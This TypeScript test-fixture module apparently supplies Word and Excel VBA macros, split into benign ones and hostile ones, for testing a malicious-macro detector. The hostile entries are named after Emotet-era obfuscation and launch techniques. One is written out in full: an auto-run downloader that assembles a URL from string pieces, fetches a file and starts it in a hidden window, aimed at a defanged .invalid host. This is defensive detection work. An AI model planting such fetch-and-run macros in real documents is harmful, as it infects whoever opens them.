/**
 * Macros by the names that recipes call them, each for Word and for Excel. Harmless by construction: programs do not exist, hosts
 * end in .invalid, and the honest ones add up numbers.
 */
import { honestMacros, hostileMacros } from '../office/macros';
import type { ModuleParts } from '../office/vba';

export interface MacroForms {
  readonly word: readonly ModuleParts[];
  readonly excel: readonly ModuleParts[];
}

const hostile = (name: string): MacroForms => inBothForms(hostileMacros[name], name);
const honest = (name: string): MacroForms => inBothForms(honestMacros[name], name);

export const macros = {
  /** Fetches a file and starts it, once the document is opened. */
  downloader: inBothForms([
    { name: 'ThisDocument', kind: 'document', source: 'Private Sub Document_Open()\nFetchIt\nEnd Sub\n' },
    {
      name: 'Module1',
      kind: 'standard',
      source: `Public Sub FetchIt()
Dim address As String
Dim place As String
address = "http://" & "files" & ".invalid/" & "notreal"
place = Environ("TEMP") & "\\notreal" & ".exe"
Set request = CreateObject("MSXML2.XMLHTTP")
request.Open "GET", address, False
request.Send
Shell "notreal.exe " & place, vbHide
End Sub
`,
    },
  ]),
  'emotet-2018-shell': hostile('emotet 2018: Shell of joined junk'),
  'emotet-2018-brackets': hostile('emotet 2018: [Shell] with blanks'),
  'emotet-2018-modules': hostile('emotet 2018: call over modules'),
  'emotet-2019-wmi': hostile('emotet 2019: WMI with a hidden window'),
  'emotet-2019-wmi-torn': hostile('emotet 2019: WMI torn apart'),
  'emotet-2019-form': hostile('emotet 2019: caption of a form, in a class'),
  'emotet-2020-computed': hostile('emotet 2020: computed object, late call'),
  'emotet-2020-random-names': hostile('emotet 2020: random names only'),
  'emotet-2020-certutil': hostile('certutil decode'),
  'emotet-2021-batch': hostile('emotet 2021: batch file in ProgramData'),
  'emotet-2021-activate': hostile('emotet 2021: activate instead of open'),
  'emotet-2021-wscript': hostile('WScript.Shell from variables'),
  'emotet-2023-download': hostile('emotet 2023: download and regsvr32'),
  /** Of Emotet's kin. */
  'kin-api-download': hostile('API download and Shell'),
  'kin-memory': hostile('memory and callback'),
  'kin-script-saved': hostile('text saved as script, then started'),
  'kin-macro-sheet': hostile('macro sheet made at opening'),

  /** Adds up an order form when its button is pressed. */
  bookkeeping: inBothForms([
    { name: 'ThisDocument', kind: 'document', source: '' },
    {
      name: 'Module1',
      kind: 'standard',
      source: `' Adds up the quantities of the order form.
Public Sub AddUp_Click()
Dim line As Long
Dim total As Double
For line = 2 To 40
total = total + Worksheets(1).Cells(line, 2).Value * Worksheets(1).Cells(line, 3).Value
Next line
Worksheets(1).Range("C42").Value = total
MsgBox "Total: " & Format(total, "#,##0")
End Sub
`,
    },
  ]),
  /** Saves the workbook under today's date when it is opened. */
  'honest-save-at-opening': honest('accounting workbook that saves itself'),
  'honest-price-list': honest('price list with buttons'),
  /** Opens the folder in Explorer when a button is pressed. */
  'honest-folder-button': honest('Explorer from a button'),
  'honest-form-at-opening': honest('form at opening'),
  'honest-export': honest('dictionary and files'),
  'honest-exchange-rates': honest('web query with JSON'),
  'honest-database': honest('long SQL in pieces'),
  'honest-tidy-up': honest('tidy up on closing'),
  'honest-add-in': honest('ribbon of an add-in'),
  /** A time sheet that goes to the month at hand: 勤怠表. */
  'honest-time-sheet': inBothForms([
    {
      name: 'ThisWorkbook',
      kind: 'document',
      source: `Private Sub Workbook_Open()
Dim sheet As Worksheet
For Each sheet In ThisWorkbook.Worksheets
If sheet.Name = Format(Date, "yyyymm") Then sheet.Activate
Next sheet
Range("B2").Value = Application.UserName
End Sub
Private Sub Workbook_BeforeSave(ByVal SaveAsUI As Boolean, Cancel As Boolean)
Range("B3").Value = WorksheetFunction.Sum(Range("D6:D36"))
End Sub
`,
    },
  ]),
  /** Fills in the date of a letter's template. */
  'honest-letter-template': inBothForms([
    {
      name: 'ThisDocument',
      kind: 'document',
      source: `Private Sub Document_New()
ActiveDocument.Bookmarks("Today").Range.Text = Format(Date, "d mmmm yyyy")
End Sub
`,
    },
  ]),
} satisfies Readonly<Record<string, MacroForms>>;

export type MacroName = keyof typeof macros;

/** The same macro for the other application: the module of the document and the procedures that start by themselves differ. */
function inBothForms(modules: readonly ModuleParts[] | undefined, name = ''): MacroForms {
  if (modules === undefined) throw new Error(`There is no macro called "${name}".`);
  const renamed = (from: RegExp, to: string, procedures: readonly (readonly [RegExp, string])[]): ModuleParts[] =>
    modules.map((module) => ({
      ...module,
      name: module.name.replace(from, to),
      ...(typeof module.source === 'string' && {
        source: procedures.reduce((text, [old, now]) => text.replace(old, now), module.source),
      }),
    }));
  return {
    word: renamed(/^ThisWorkbook$/, 'ThisDocument', [
      [/\bWorkbook_(?=Open|Close|New)/gi, 'Document_'],
      [/\bWorkbook_Activate\b/gi, 'Document_Open'],
      [/\bAuto_Open\b/gi, 'AutoOpen'],
    ]),
    excel: renamed(/^ThisDocument$/, 'ThisWorkbook', [
      [/\bDocument_(?=Open|New)/gi, 'Workbook_'],
      [/\bDocument_Close\(\)/gi, 'Workbook_BeforeClose(Cancel As Boolean)'],
      [/\bAutoOpen\b/gi, 'Auto_Open'],
    ]),
  };
}
